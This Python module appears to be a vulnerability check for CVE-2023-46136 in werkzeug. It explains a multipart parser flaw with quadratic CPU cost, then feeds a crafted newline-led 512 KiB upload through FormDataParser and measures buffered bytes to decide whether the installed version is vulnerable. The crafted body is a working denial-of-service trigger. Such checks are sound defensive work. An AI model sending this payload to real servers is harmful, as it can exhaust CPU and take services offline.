"""CVE-2023-46136 (werkzeug 3.0.0 -> 3.0.1): multipart parser CPU DoS on CR/LF-led file data.

While no boundary is in sight, ``MultipartDecoder._parse_data`` hands out file data only up to the
last newline in its buffer. If the data starts with a newline and has no other one, nothing is
handed out, the buffer keeps growing and every chunk re-scans all of it: quadratic CPU time. 3.0.1
releases data that is far from any newline. Instead of timing it, the check streams a 512 KiB
upload of ``"\\n" + "a" * ...`` through the ``FormDataParser`` built in ``prepare()`` (the object
``Request`` uses) and measures how many bytes the parser had read but not yet written to the
upload file: the whole upload before the fix, at most about one 64 KiB read chunk after it.
"""

from __future__ import annotations

import io
import typing
from dataclasses import dataclass, field

from werkzeug.formparser import FormDataParser

_BOUNDARY = "x7BOUNDARYx7"
_SIZE = 512 * 1024
_HEAD = (
    f"--{_BOUNDARY}\r\n"
    'Content-Disposition: form-data; name="upload"; filename="a.bin"\r\n'
    "Content-Type: application/octet-stream\r\n\r\n"
)
_BODY = _HEAD.encode() + b"\n" + b"a" * _SIZE + f"\r\n--{_BOUNDARY}--\r\n".encode()


@dataclass
class _Ctx:
    parser: FormDataParser
    uploads: list[io.BytesIO] = field(default_factory=list)


class _Body:
    """Request body stream that records the most bytes read but not yet stored in an upload."""

    def __init__(self, ctx: _Ctx) -> None:
        self._data = io.BytesIO(_BODY)
        self._ctx = ctx
        self.max_held = 0

    def read(self, size: int = -1) -> bytes:
        stored = sum(upload.getbuffer().nbytes for upload in self._ctx.uploads)
        self.max_held = max(self.max_held, self._data.tell() - stored)
        return self._data.read(size)


def prepare() -> object:
    ctx = _Ctx(FormDataParser())

    def stream_factory(*args: object, **kwargs: object) -> io.BytesIO:
        ctx.uploads.append(io.BytesIO())
        return ctx.uploads[-1]

    ctx.parser.stream_factory = stream_factory
    return ctx


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, _Ctx)
    ctx.uploads.clear()
    body = _Body(ctx)
    stream = typing.cast(typing.IO[bytes], body)
    _, _, files = ctx.parser.parse(
        stream, "multipart/form-data", len(_BODY), {"boundary": _BOUNDARY}
    )
    if len(files["upload"].read()) != _SIZE + 1:
        raise RuntimeError("upload not parsed")
    return body.max_held > _SIZE // 2
